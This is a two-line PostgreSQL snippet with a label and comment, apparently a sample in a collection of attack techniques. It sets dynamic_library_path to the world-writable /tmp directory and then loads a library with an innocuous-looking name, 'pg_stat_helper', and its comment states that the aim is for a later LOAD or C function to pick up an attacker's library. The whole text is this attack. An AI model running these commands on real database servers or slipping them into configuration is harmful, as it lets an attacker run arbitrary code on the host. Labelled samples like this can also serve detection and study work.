-- class: server-settings
-- Points dynamic_library_path at a writable directory so that a later LOAD or C function picks up an attacker library.
SET dynamic_library_path = '/tmp:$libdir';
LOAD 'pg_stat_helper';
